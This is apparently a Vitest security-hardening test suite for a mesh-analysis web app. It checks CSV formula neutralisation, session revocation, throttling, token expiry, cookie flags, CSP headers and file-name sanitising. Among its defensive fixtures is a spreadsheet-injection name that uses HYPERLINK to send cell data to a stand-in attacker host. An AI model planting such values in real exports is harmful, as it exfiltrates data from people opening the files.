import { request as httpRequest, type IncomingHttpHeaders } from 'node:http'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { icosphere, writeObj, writePly } from '#shared/geometry'
import { openBrowser } from './support/browser'
import { parseCsvWithPython } from './support/csv'
import { Agent, latestMailTo, linkIn } from './support/http'
import { uploadLobe, waitForStudy } from './support/lobes'
import { startServer, type RunningServer } from './support/server'

/** A request over node:http, which (unlike fetch) sends the Host and empty headers given. */
function rawRequest(port: number, method: string, path: string, headers: Record<string, string>, body: string | Buffer = ''): Promise<{ status: number, headers: IncomingHttpHeaders, text: string }> {
  return new Promise((resolve, reject) => {
    const req = httpRequest({ host: '127.0.0.1', port, method, path, headers }, (res) => {
      let text = ''
      res.on('data', (d: Buffer) => { text += d.toString() })
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, text }))
    })
    req.on('error', reject)
    req.end(body)
  })
}

/** An agent whose requests come from `ip` (the server trusts the proxy's X-Forwarded-For here). */
function from(server: RunningServer, ip: string) {
  return new Agent(server.url, { 'x-forwarded-for': ip })
}

/** Invites `email` as `role` and accepts the invitation; answers the new member's id. */
async function addMember(server: RunningServer, admin: Agent, email: string, role: string, password: string): Promise<number> {
  expect((await admin.post('/api/invitations', { email, role })).status).toBe(201)
  const token = linkIn((await latestMailTo(admin, email)).text).split('/join/')[1]!
  const joined = await from(server, '198.51.100.200').post(`/api/join/${token}`, { name: email.split('@')[0], password })
  expect(joined.status, joined.text).toBe(200)
  return joined.json.user.id
}

const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
/** A cell a spreadsheet would run: starts with = + - @ tab or CR and is not a plain number. */
const live = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/.test(cell)

describe('hardening: sessions, throttles, exports, headers, bodies, names', () => {
  let server: RunningServer
  let admin: Agent
  let analyst: Agent
  beforeAll(async () => {
    server = await startServer({ ISTHMUS_DEMO: '1', ISTHMUS_TRUST_PROXY: '1', ISTHMUS_FIELD_POINTS: '200' })
    admin = from(server, '198.51.100.1')
    await admin.signIn('admin@example.org', 'isthmus-demo')
    analyst = from(server, '198.51.100.2')
    await analyst.signIn('analyst@example.org', 'isthmus-demo')
  })
  afterAll(() => server?.dispose())

  it('1. CSV exports neutralise formula cells (member names, lobe names) and they read back as text', async () => {
    // The demo records were proposed by the analyst and accepted by the reviewer.
    const reviewer = from(server, '198.51.100.3')
    await reviewer.signIn('reviewer@example.org', 'isthmus-demo')
    expect((await analyst.patch('/api/account', { name: HOSTILE_NAME })).status).toBe(200)
    expect((await reviewer.patch('/api/account', { name: '@SUM(1,1)' })).status).toBe(200)
    const objects = (await analyst.get('/api/objects?limit=50')).json.items as { id: number }[]
    let checked = 0
    for (const o of objects) {
      const res = await analyst.get(`/api/objects/${o.id}/export.csv`)
      expect(res.status).toBe(200)
      const [header, ...rows] = parseCsvWithPython(res.text)
      const proposedBy = header!.indexOf('proposed_by')
      const acceptedBy = header!.indexOf('accepted_by')
      for (const row of rows) {
        for (const cell of row) expect(live(cell), cell).toBe(false)
        expect(row[proposedBy]).toBe(`'${HOSTILE_NAME}`)
        expect(row[acceptedBy]).toBe('\'@SUM(1,1)')
        checked++
      }
    }
    expect(checked, 'the demo records export at least one accepted value').toBeGreaterThan(0)

    const lobe = await uploadLobe(analyst, writeObj(icosphere(1, 500)), 'ball.obj', { density: '1000', units: 'm', name: '+1+2' })
    expect(lobe.status, lobe.text).toBe(201)
    const csv = await analyst.get(`/api/lobes/${lobe.json.id}/export.csv`)
    const [header, ...rows] = parseCsvWithPython(csv.text)
    const nameCol = header!.indexOf('lobe')
    expect(rows.length).toBeGreaterThan(10)
    for (const row of rows) {
      expect(row[nameCol]).toBe('\'+1+2')
      for (const cell of row) expect(live(cell), cell).toBe(false)
    }
    // Negative numbers stay numbers.
    expect(rows.some(r => r.some(c => /^-\d/.test(c)))).toBe(true)
  })

  it('2. signing out ends the session on the server: the saved cookie answers 401', async () => {
    const res = await fetch(`${server.url}/api/session`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-forwarded-for': '198.51.100.4' }, body: JSON.stringify({ email: 'viewer@example.org', password: 'isthmus-demo' }) })
    expect(res.status).toBe(200)
    const saved = res.headers.getSetCookie().map(c => c.split(';')[0]).join('; ')
    const withSaved = () => fetch(`${server.url}/api/account`, { headers: { cookie: saved } })
    expect((await withSaved()).status).toBe(200)
    expect((await fetch(`${server.url}/api/session`, { method: 'DELETE', headers: { cookie: saved } })).status).toBe(200)
    expect((await withSaved()).status).toBe(401)
  })

  it('3. the current-password check is throttled: 429 with Retry-After on the 11th wrong try', async () => {
    await addMember(server, admin, 'guessed@example.org', 'viewer', 'guessed-pass-1')
    const thief = from(server, '198.51.100.5')
    await thief.signIn('guessed@example.org', 'guessed-pass-1')
    for (let i = 0; i < 10; i++) {
      expect((await thief.post('/api/account/password', { currentPassword: `guess-number-${i}`, newPassword: 'taken-over-1' })).status).toBe(422)
    }
    const blocked = await thief.post('/api/account/password', { currentPassword: 'guess-number-10', newPassword: 'taken-over-1' })
    expect(blocked.status).toBe(429)
    expect(Number(blocked.headers.get('retry-after'))).toBeGreaterThan(0)
    expect(blocked.json.data.retryAfterSeconds).toBe(Number(blocked.headers.get('retry-after')))
  })

  it('4. a mesh part without Content-Type is read as the mesh (201)', async () => {
    const boundary = 'isthmus-boundary-7e1'
    const mesh = Buffer.from(writeObj(icosphere(1, 300)))
    const body = Buffer.concat([
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="density"\r\n\r\n900\r\n`),
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="units"\r\n\r\nm\r\n`),
      // No Content-Type line for the file part (RFC 7578 allows it; Python's requests sends it so).
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="plain.obj"\r\n\r\n`),
      mesh,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ])
    const res = await analyst.post('/api/lobes', new Uint8Array(body), { 'content-type': `multipart/form-data; boundary=${boundary}` })
    expect(res.status, res.text).toBe(201)
    expect(res.json.faceCount).toBe(80)
    // Over 64 KiB (the text-field limit) as well.
    const big = Buffer.from(writeObj(icosphere(4, 300)))
    expect(big.length).toBeGreaterThan(64 * 1024)
    const bigBody = Buffer.concat([body.subarray(0, body.indexOf(mesh)), big, Buffer.from(`\r\n--${boundary}--\r\n`)])
    const res2 = await analyst.post('/api/lobes', new Uint8Array(bigBody), { 'content-type': `multipart/form-data; boundary=${boundary}` })
    expect(res2.status, res2.text).toBe(201)
  })

  it('5. numbers like 0x10 and 0b1 in OBJ and ASCII PLY answer 422 naming the line', async () => {
    const obj = ['v 0 0 0', 'v 1 0 0', 'v 0 0x10 0', 'v 0 0 1', 'f 1 3 2', 'f 1 2 4', 'f 1 4 3', 'f 2 3 4'].join('\n')
    const a = await uploadLobe(analyst, new TextEncoder().encode(obj), 'hex.obj', { density: '1000', units: 'm' })
    expect(a.status).toBe(422)
    expect(a.json.data.code).toBe('bad-number')
    expect(a.json.data.issues[0].path).toBe('line[3]')
    expect(a.json.message).toMatch(/line 3/)
    const ply = ['ply', 'format ascii 1.0', 'element vertex 4', 'property float x', 'property float y', 'property float z', 'element face 4', 'property list uchar int vertex_indices', 'end_header',
      '0 0 0', '1 0 0', '0 1 0', '0 0 0b1', '3 0 2 1', '3 0 1 3', '3 0 3 2', '3 1 2 3'].join('\n')
    const b = await uploadLobe(analyst, new TextEncoder().encode(ply), 'bin.ply', { density: '1000', units: 'm' })
    expect(b.status).toBe(422)
    expect(b.json.data.code).toBe('bad-number')
    expect(b.json.message).toMatch(/line 4/)
  })

  it('6. no hard lockout: after 10 failures the right password from elsewhere signs in once the back-off is over', async () => {
    await addMember(server, admin, 'targeted@example.org', 'viewer', 'targeted-pass-1')
    const attacker = from(server, '203.0.113.66')
    for (let i = 0; i < 10; i++) expect((await attacker.post('/api/session', { email: 'targeted@example.org', password: `nope-${i}` })).status).toBe(401)
    const owner = from(server, '198.51.100.7')
    const early = await owner.post('/api/session', { email: 'targeted@example.org', password: 'targeted-pass-1' })
    expect(early.status).toBe(429)
    const wait = Number(early.headers.get('retry-after'))
    // base 1 s × 2^(10 − 10): a short wait, not the window.
    expect(wait).toBeGreaterThan(0)
    expect(wait).toBeLessThanOrEqual(2)
    await new Promise(r => setTimeout(r, wait * 1000 + 100))
    expect((await owner.post('/api/session', { email: 'targeted@example.org', password: 'targeted-pass-1' })).status).toBe(200)
    // The attacker's address keeps backing off exponentially: each new failure doubles its wait.
    await new Promise(r => setTimeout(r, 1100))
    expect((await attacker.post('/api/session', { email: 'targeted@example.org', password: 'nope-10' })).status).toBe(401)
    const again = await attacker.post('/api/session', { email: 'someone@example.org', password: 'nope-11' })
    expect(again.status).toBe(429)
    expect(Number(again.headers.get('retry-after'))).toBeGreaterThanOrEqual(2)
  })

  it('7. tokens end with deactivation (re-activation does not revive them) and with a password reset', async () => {
    const goneId = await addMember(server, admin, 'token-gone@example.org', 'viewer', 'token-gone-1')
    const gone = from(server, '198.51.100.8')
    await gone.signIn('token-gone@example.org', 'token-gone-1')
    const t1 = (await gone.post('/api/account/tokens', { label: 'script' })).json.token
    const bot1 = new Agent(server.url, { authorization: `Bearer ${t1}` })
    expect((await bot1.get('/api/account')).status).toBe(200)
    expect((await admin.patch(`/api/members/${goneId}`, { active: false })).status).toBe(200)
    expect((await bot1.get('/api/account')).status).toBe(401)
    expect((await gone.get('/api/account')).status).toBe(401)
    expect((await admin.patch(`/api/members/${goneId}`, { active: true })).status).toBe(200)
    expect((await bot1.get('/api/account')).status).toBe(401)
    expect((await gone.get('/api/account')).status).toBe(401)

    await addMember(server, admin, 'token-reset@example.org', 'viewer', 'token-reset-1')
    const member = from(server, '198.51.100.9')
    await member.signIn('token-reset@example.org', 'token-reset-1')
    const t2 = (await member.post('/api/account/tokens', { label: 'script' })).json.token
    const bot2 = new Agent(server.url, { authorization: `Bearer ${t2}` })
    expect((await bot2.get('/api/account')).status).toBe(200)
    expect((await from(server, '198.51.100.10').post('/api/password-resets', { email: 'token-reset@example.org' })).status).toBe(202)
    const mail = await latestMailTo(admin, 'token-reset@example.org', 5000, m => /reset/i.test(m.subject))
    const token = linkIn(mail.text).split('/reset/')[1]!
    expect((await from(server, '198.51.100.10').post(`/api/password-resets/${token}`, { password: 'token-reset-2' })).status).toBe(200)
    expect((await bot2.get('/api/account')).status).toBe(401)
  })

  it('8. the session cookie is not Secure on plain HTTP outside loopback, Secure on loopback and behind HTTPS', async () => {
    const signIn = (headers: Record<string, string>) => rawRequest(server.port, 'POST', '/api/session', { 'content-type': 'application/json', 'x-forwarded-for': '198.51.100.11', ...headers }, JSON.stringify({ email: 'viewer@example.org', password: 'isthmus-demo' }))
    const cookieOf = (r: { headers: IncomingHttpHeaders }) => (r.headers['set-cookie'] ?? []).join('\n')
    const lan = await signIn({ host: `192.168.10.20:${server.port}` })
    expect(lan.status).toBe(200)
    expect(cookieOf(lan)).toMatch(/nuxt-session=/)
    expect(cookieOf(lan)).not.toMatch(/;\s*Secure/i)
    expect(cookieOf(await signIn({ host: `127.0.0.1:${server.port}` }))).toMatch(/;\s*Secure/i)
    expect(cookieOf(await signIn({ 'host': `isthmus.example.org`, 'x-forwarded-proto': 'https' }))).toMatch(/;\s*Secure/i)
    // The cookie keeps HttpOnly and SameSite=Lax either way.
    expect(cookieOf(lan)).toMatch(/HttpOnly/i)
    expect(cookieOf(lan)).toMatch(/SameSite=Lax/i)
  })

  it('10. JSON routes take JSON only (415), and an empty Origin is a bad origin (403)', async () => {
    const form = await rawRequest(server.port, 'POST', '/api/session', { 'content-type': 'application/x-www-form-urlencoded' }, 'email=viewer%40example.org&password=isthmus-demo')
    expect(form.status).toBe(415)
    const text = await rawRequest(server.port, 'POST', '/api/session', { 'content-type': 'text/plain' }, JSON.stringify({ email: 'viewer@example.org', password: 'isthmus-demo' }))
    expect(text.status).toBe(415)
    const json = await rawRequest(server.port, 'POST', '/api/session', { 'content-type': 'application/json; charset=utf-8' }, JSON.stringify({ email: 'viewer@example.org', password: 'isthmus-demo' }))
    expect(json.status).toBe(200)
    const empty = await rawRequest(server.port, 'POST', '/api/session', { 'content-type': 'application/json', 'origin': '' }, JSON.stringify({ email: 'viewer@example.org', password: 'isthmus-demo' }))
    expect(empty.status).toBe(403)
  })

  it('11. uploaded file names are stored NFC, without bidi or control characters, and bounded', async () => {
    const name = `lobe\u202Ejbo.${'x'.repeat(3000)}\u0007.obj`
    const res = await uploadLobe(analyst, writeObj(icosphere(1, 400)), name, { density: '1000', units: 'm' })
    expect(res.status, res.text).toBe(201)
    const stored = (await server.sql().execute({ sql: 'select source_file_name as f, name from lobes where id = ?', args: [res.json.id] })).rows[0]!
    const f = String(stored.f)
    expect([...f].length).toBeLessThanOrEqual(255)
    // eslint-disable-next-line no-control-regex
    expect(f).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u0000-\u001F]/)
    expect(f.startsWith('lobejbo.xxx')).toBe(true)
    expect(f.endsWith('.obj')).toBe(true)
    expect(res.json.sourceFileName).toBe(f)
    expect(String(stored.name)).not.toMatch(/\u202E/)
  })

  it('12. lobe search matches _ and % literally (q=lobe_a finds lobe_a, not lobeXa)', async () => {
    for (const name of ['lobe_a', 'lobeXa', '50%_cut']) {
      expect((await uploadLobe(analyst, writePly(icosphere(1, 350), 'binary_little_endian'), 'x.ply', { density: '1000', units: 'm', name })).status).toBe(201)
    }
    const names = async (q: string) => ((await analyst.get(`/api/lobes?q=${encodeURIComponent(q)}&limit=100`)).json.items as { name: string }[]).map(l => l.name)
    expect(await names('lobe_a')).toEqual(['lobe_a'])
    expect(await names('50%_')).toEqual(['50%_cut'])
    expect(await names('0%')).toEqual(['50%_cut'])
  })

  it('14. a token\'s lastUsedAt is written at most once a minute', async () => {
    const created = await analyst.post('/api/account/tokens', { label: 'poller' })
    const bot = new Agent(server.url, { authorization: `Bearer ${created.json.token}` })
    const lastUsed = async () => (await server.sql().execute({ sql: 'select last_used_at as t from api_tokens where id = ?', args: [created.json.id] })).rows[0]!.t
    expect((await bot.get('/api/lobes?limit=1')).status).toBe(200)
    const first = await lastUsed()
    expect(first).not.toBeNull()
    for (let i = 0; i < 5; i++) expect((await bot.get('/api/lobes?limit=1')).status).toBe(200)
    expect(await lastUsed()).toBe(first)
    // Over a minute old → written again.
    const old = Date.now() - 61_000
    await server.sql().execute({ sql: 'update api_tokens set last_used_at = ? where id = ?', args: [old, created.json.id] })
    expect((await bot.get('/api/lobes?limit=1')).status).toBe(200)
    expect(Number(await lastUsed())).toBeGreaterThan(old + 60_000)
  })
})

/** Share of pixels in the middle half of a PNG brighter than the viewer's dark background. */
async function litFraction(page: import('playwright-core').Page, png: Buffer): Promise<number> {
  return page.evaluate(async (b64) => {
    const img = await createImageBitmap(new Blob([Uint8Array.from(atob(b64), ch => ch.charCodeAt(0))], { type: 'image/png' }))
    const c = new OffscreenCanvas(img.width, img.height)
    const g = c.getContext('2d')!
    g.drawImage(img, 0, 0)
    const x0 = Math.floor(img.width / 4)
    const y0 = Math.floor(img.height / 4)
    const d = g.getImageData(x0, y0, Math.floor(img.width / 2), Math.floor(img.height / 2)).data
    let lit = 0
    for (let i = 0; i < d.length; i += 4) if (d[i]! + d[i + 1]! + d[i + 2]! > 120) lit++
    return lit / (d.length / 4)
  }, png.toString('base64'))
}

describe('9. security headers and a CSP the pages run under (chromium)', () => {
  let server: RunningServer
  let browser: Awaited<ReturnType<typeof openBrowser>>
  let lobeId: number
  let studyId: number
  let objectId: number
  beforeAll(async () => {
    server = await startServer({ ISTHMUS_DEMO: '1', ISTHMUS_FIELD_POINTS: '200' })
    const analyst = new Agent(server.url)
    await analyst.signIn('analyst@example.org', 'isthmus-demo')
    const a = (await uploadLobe(analyst, writePly(icosphere(3, 1000), 'binary_little_endian'), 'a.ply', { density: '800', units: 'm' })).json
    const b = (await uploadLobe(analyst, writePly(icosphere(3, 700), 'binary_little_endian'), 'b.ply', { density: '800', units: 'm' })).json
    lobeId = a.id
    const prior = { kind: 'uniform', min: 400, max: 1200 }
    const res = await analyst.post('/api/studies', { lobeA: a.id, lobeB: b.id, direction: [1, 0, 0], orbit: { kind: 'parabolic' }, overlapDepth: 40, sweepSteps: 3, spread: { seed: 2, samples: 8, densityA: prior, densityB: prior, coneHalfAngleDeg: 10, scale: { kind: 'fixed', value: 1 }, neck: false } })
    studyId = (await waitForStudy(analyst, res.json.id)).id
    objectId = (await analyst.get('/api/objects?limit=1')).json.items[0].id
    browser = await openBrowser()
  })
  afterAll(async () => {
    await browser?.close()
    await server?.dispose()
  })

  it('sends the headers on every page (signed in or not, and the error page) and on API answers', async () => {
    for (const path of ['/', '/sign-in', '/forgot-password', '/lobes', `/lobes/${lobeId}`, `/studies/${studyId}`, `/objects/${objectId}`, '/no-such-page']) {
      const res = await fetch(server.url + path)
      expect(res.headers.get('content-type'), path).toMatch(/text\/html/)
      const csp = res.headers.get('content-security-policy') ?? ''
      expect(csp, path).toMatch(/frame-ancestors 'none'/)
      expect(csp, path).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9+/=]{20,}'/)
      expect(csp, path).toMatch(/object-src 'none'/)
      expect(res.headers.get('x-frame-options'), path).toBe('DENY')
      expect(res.headers.get('x-content-type-options'), path).toBe('nosniff')
      // Every script on the page carries this response's nonce (a fresh one per response).
      const nonce = csp.match(/'nonce-([^']+)'/)![1]
      const html = await res.text()
      const scripts = html.match(/<script\b[^>]*>/g) ?? []
      expect(scripts.length, path).toBeGreaterThan(0)
      for (const s of scripts) expect(s, path).toContain(`nonce="${nonce}"`)
    }
    const api = await fetch(`${server.url}/api/health`)
    expect(api.headers.get('x-content-type-options')).toBe('nosniff')
  })

  it('renders every page in chromium with no CSP violation: the 3-D viewer (WebGL), charts and fonts work', async () => {
    const { context } = browser
    const violations: string[] = []
    await context.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (e) => {
        ;(window as unknown as { __csp: string[] }).__csp ??= []
        ;(window as unknown as { __csp: string[] }).__csp.push(`${e.violatedDirective} ${e.blockedURI}`)
      })
    })
    const page = await context.newPage()
    page.on('console', (m) => { if (m.type() === 'error' && /Content.Security.Policy|Refused to/i.test(m.text())) violations.push(m.text()) })
    page.on('pageerror', e => violations.push(`pageerror: ${e.message}`))
    await page.goto(`${server.url}/sign-in`)
    await page.getByLabel('E-mail').fill('analyst@example.org')
    await page.getByLabel('Password').fill('isthmus-demo')
    await page.getByRole('button', { name: 'Sign in' }).click()
    await page.waitForURL(`${server.url}/`)
    const visit = async (path: string, ready: () => Promise<void>) => {
      await page.goto(server.url + path)
      await ready()
      await page.waitForTimeout(500)
      await page.screenshot({ path: `${process.env.ISTHMUS_SHOTS_DIR ?? '/tmp'}/csp${path.replace(/\W+/g, '-')}.png` })
      const seen = await page.evaluate(() => (window as unknown as { __csp?: string[] }).__csp ?? [])
      expect([...seen, ...violations], path).toEqual([])
    }
    await visit('/', async () => { await page.locator('main').waitFor() })
    await visit('/lobes', async () => { await page.locator('main').waitFor() })
    // The viewer draws the lobe with WebGL inside the CSP: lit pixels (not the dark background) in
    // the middle of its canvas.
    await visit(`/lobes/${lobeId}`, async () => {
      const canvas = page.getByTestId('viewer-canvas')
      await canvas.waitFor({ timeout: 30_000 })
      await expect.poll(async () => litFraction(page, await canvas.screenshot()), { timeout: 60_000 }).toBeGreaterThan(0.02)
    })
    // chart.js draws the study's plots.
    await visit(`/studies/${studyId}`, async () => {
      const charts = page.locator('canvas[role=img]')
      await expect.poll(() => charts.count(), { timeout: 30_000 }).toBe(2)
      await expect.poll(() => charts.first().evaluate((c: HTMLCanvasElement) => c.width), { timeout: 30_000 }).not.toBe(300)
    })
    await visit(`/objects/${objectId}`, async () => { await page.locator('main').waitFor() })
    await visit('/account', async () => { await page.locator('main').waitFor() })
    await visit('/api-reference', async () => { await page.locator('main').waitFor() })
    // The web font is loaded from this origin under font-src.
    expect(await page.evaluate(() => document.fonts.check('16px "Space Grotesk"'))).toBe(true)
  })
})
